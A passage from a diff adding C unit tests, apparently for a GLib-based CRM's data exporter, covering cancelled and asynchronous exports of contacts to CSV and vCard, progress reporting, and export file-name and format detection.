+  g_autoptr (GFile) file = g_file_new_for_path (target);
+  g_autoptr (GCancellable) cancellable = g_cancellable_new ();
+  g_autoptr (CrmExporter) exporter = crm_exporter_new (CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_CSV);
+  g_autofree char *kept = NULL;
+  const char *const nothing[] = { NULL };
+  const char *const old_file[] = { "contacts.csv", NULL };
+
+  /* Enough rows for progress to be reported (and the writer to flush) before the end. */
+  g_assert_true (crm_store_begin (fixture->store, &error));
+  for (guint i = 0; i < 3000; i++)
+    {
+      g_autoptr (CrmContactRecord) contact = crm_contact_record_new ();
+
+      contact->name = g_strdup_printf ("Person %u with a name long enough to fill pages", i);
+      contact->notes = g_strnfill (100, 'n');
+      g_assert_true (crm_store_insert_contact (fixture->store, contact, &error));
+    }
+  g_assert_true (crm_store_commit (fixture->store, &error));
+
+  g_assert_false (crm_exporter_run (exporter, fixture->store, file, cancellable, cancel_half_way,
+                                    cancellable, &error));
+  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+  g_assert_cmpuint (crm_exporter_get_n_exported (exporter), ==, 0);
+  assert_folder_holds (fixture->folder, nothing);
+  g_clear_error (&error);
+
+  /* Over an existing file: it stays as it was. */
+  g_assert_true (g_file_set_contents (target, "old", -1, NULL));
+  g_cancellable_reset (cancellable);
+  g_assert_false (crm_exporter_run (exporter, fixture->store, file, cancellable, cancel_half_way,
+                                    cancellable, &error));
+  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+  g_assert_true (g_file_get_contents (target, &kept, NULL, NULL));
+  g_assert_cmpstr (kept, ==, "old");
+  assert_folder_holds (fixture->folder, old_file);
+}
+
+typedef struct
+{
+  GMainLoop *loop;
+  GPtrArray *fractions; /* double* */
+  gboolean ok;
+  GError *error;
+} AsyncRun;
+
+static void
+on_progress (double fraction, gpointer user_data)
+{
+  AsyncRun *run = user_data;
+  double *copy = g_new (double, 1);
+
+  g_assert_true (g_main_context_is_owner (g_main_context_default ()));
+  *copy = fraction;
+  g_ptr_array_add (run->fractions, copy);
+}
+
+static void
+on_exported (GObject *source, GAsyncResult *result, gpointer user_data)
+{
+  AsyncRun *run = user_data;
+
+  run->ok = crm_exporter_run_finish (CRM_EXPORTER (source), result, &run->error);
+  g_main_loop_quit (run->loop);
+}
+
+static void
+test_export_async (Fixture *fixture, gconstpointer data)
+{
+  g_autofree char *target = g_build_filename (fixture->folder, "contacts.vcf", NULL);
+  g_autoptr (GFile) file = g_file_new_for_path (target);
+  g_autoptr (CrmExporter) exporter
+      = crm_exporter_new (CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_VCARD);
+  AsyncRun run = { g_main_loop_new (NULL, FALSE), g_ptr_array_new_with_free_func (g_free) };
+  double last = -1;
+
+  crm_exporter_run_async (exporter, fixture->database_path, file, NULL, on_progress, &run,
+                          on_exported, &run);
+  g_main_loop_run (run.loop);
+  g_assert_no_error (run.error);
+  g_assert_true (run.ok);
+  g_assert_cmpuint (crm_exporter_get_n_exported (exporter), ==, 2);
+  g_assert_true (g_file_test (target, G_FILE_TEST_IS_REGULAR));
+  /* Progress in the main context, never backwards; the final 1.0 may come before the result
+   * or be dropped when it comes after (crm_exporter_run_finish() stops it). */
+  g_assert_cmpuint (run.fractions->len, >=, 1);
+  for (guint i = 0; i < run.fractions->len; i++)
+    {
+      double fraction = *(double *) g_ptr_array_index (run.fractions, i);
+
+      g_assert_cmpfloat (fraction, >=, last);
+      g_assert_cmpfloat (fraction, <=, 1.0);
+      last = fraction;
+    }
+  g_main_loop_unref (run.loop);
+  g_ptr_array_unref (run.fractions);
+}
+
+static void
+test_names (void)
+{
+  g_autoptr (GDateTime) day = g_date_time_new_local (2026, 12, 6, 10, 0, 0);
+  g_autofree char *contacts
+      = crm_export_suggest_file_name (CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_CSV, day);
+  g_autofree char *tasks
+      = crm_export_suggest_file_name (CRM_EXPORT_TASKS, CRM_EXPORT_FORMAT_ICALENDAR, day);
+  CrmExportFormat format;
+  CrmExportKind kind;
+
+  g_assert_cmpstr (contacts, ==, "rapport-contacts-2026-12-06.csv");
+  g_assert_cmpstr (tasks, ==, "rapport-tasks-and-meetings-2026-12-06.ics");
+  g_assert_true (crm_export_format_from_path ("/x/People.VCF", &format));
+  g_assert_cmpint (format, ==, CRM_EXPORT_FORMAT_VCARD);
+  g_assert_true (crm_export_format_from_path ("a.db", &format));
+  g_assert_cmpint (format, ==, CRM_EXPORT_FORMAT_DATABASE);
+  g_assert_false (crm_export_format_from_path ("a.txt", &format));
+  g_assert_false (crm_export_format_from_path (".csv", &format));
+  g_assert_true (crm_export_kind_from_string ("deals", &kind));
+  g_assert_cmpint (kind, ==, CRM_EXPORT_DEALS);
+  g_assert_false (crm_export_kind_supports_format (CRM_EXPORT_DEALS, CRM_EXPORT_FORMAT_VCARD));
+  g_assert_true (crm_export_kind_supports_format (CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_VCARD));
+}
+
+int
+main (int argc, char **argv)
+{
+  g_test_init (&argc, &argv, NULL);
+
+  g_test_add_func ("/export/csv/neutralise", test_csv_neutralise);
+  g_test_add_func ("/export/csv/raw", test_csv_raw);
+  g_test_add_func ("/export/csv/round-trip", test_csv_round_trip);
+  g_test_add_func ("/export/csv/decimal", test_csv_decimal);
+  g_test_add_func ("/export/vcard/exact", test_vcard_exact);
+  g_test_add_func ("/export/content-line/folding", test_content_line_folding);
+  g_test_add_func ("/export/ical/text", test_ical_text);
+  g_test_add_func ("/export/names", test_names);
+  TEST_F ("/export/contacts/csv", test_export_contacts_csv);
+  TEST_F ("/export/others/csv", test_export_companies_deals_activities_csv);
+  TEST_F ("/export/contacts/vcard", test_export_vcard);
+  TEST_F ("/export/tasks/ical", test_export_ical);
+  TEST_F ("/export/database", test_export_database);
+  TEST_F ("/export/failure/unwritable", test_export_unwritable);
+  TEST_F ("/export/failure/cancel", test_export_cancel);
+  TEST_F ("/export/async", test_export_async);
+  return g_test_run ();
+}
